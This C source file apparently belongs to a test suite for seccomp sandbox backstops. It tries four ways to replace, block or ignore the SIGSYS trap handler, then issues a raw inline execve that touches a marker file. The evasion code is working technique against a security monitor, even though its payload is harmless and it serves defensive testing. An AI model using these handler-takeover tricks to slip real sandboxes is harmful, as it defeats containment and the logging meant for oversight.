/*
 * sigsys.c — take SIGSYS away from the shim, then make a raw execve (inline syscall
 * instruction, see bypass.h; this file is always built with -DVIA_ASM).
 *
 * A seccomp backstop that answers with SECCOMP_RET_TRAP relies on its SIGSYS handler to log
 * (and to emulate the call's failure). An attacker replaces or blocks that handler first.
 *
 *   sigsys handler       sigaction(SIGSYS) with the attacker's handler (libc)
 *   sigsys handler-raw   rt_sigaction(SIGSYS) as a raw system call
 *   sigsys mask          SIGSYS blocked with sigprocmask
 *   sigsys ignore        SIGSYS set to SIG_IGN
 */
#include "bypass.h"

#include <signal.h>

static void attacker_handler(int sig, siginfo_t *si, void *uc)
{
	(void)sig;
	(void)uc;
	say("NOTE attacker's SIGSYS handler: syscall %d", si->si_syscall);
}

#if defined(__x86_64__)
__asm__(".text\n"
	".type bypass_restorer,@function\n"
	"bypass_restorer:\n"
	"  mov $15, %rax\n"
	"  syscall\n");
void bypass_restorer(void);
#endif

int main(int argc, char **argv)
{
	const char *op = argc > 1 ? argv[1] : "";
	char *args[] = {"touch", (char *)target("BYPASS_MARKER"), NULL};
	if (!strcmp(op, "handler")) {
		struct sigaction sa;
		memset(&sa, 0, sizeof sa);
		sa.sa_sigaction = attacker_handler;
		sa.sa_flags = SA_SIGINFO;
		if (sigaction(SIGSYS, &sa, NULL) < 0)
			say("NOTE sigaction refused errno=%d", errno);
	} else if (!strcmp(op, "handler-raw")) {
#if defined(__x86_64__)
		struct {
			void *handler;
			unsigned long flags;
			void *restorer;
			unsigned long mask;
		} ksa = {(void *)attacker_handler, SA_SIGINFO | 0x04000000 /* SA_RESTORER */,
			 (void *)bypass_restorer, 0};
		long r = RAW(SYS_rt_sigaction, SIGSYS, &ksa, NULL, 8);
		if (r < 0)
			say("NOTE rt_sigaction refused errno=%ld", -r);
#else
		say("SETUP-FAILED x86_64 only");
		return 3;
#endif
	} else if (!strcmp(op, "mask")) {
		sigset_t s;
		sigemptyset(&s);
		sigaddset(&s, SIGSYS);
		if (sigprocmask(SIG_BLOCK, &s, NULL) < 0)
			say("NOTE sigprocmask refused errno=%d", errno);
	} else if (!strcmp(op, "ignore")) {
		if (signal(SIGSYS, SIG_IGN) == SIG_ERR)
			say("NOTE signal refused errno=%d", errno);
	} else {
		fprintf(stderr, "sigsys: unknown op %s\n", op);
		return 3;
	}
	ATTEMPT("SIGSYS %s, then execve %s via %s", op, TOUCH, RAW_VIA);
	long r = RAW(SYS_execve, TOUCH, args, environ);
	DONE("refused errno=%ld", -r);
	return 0;
}
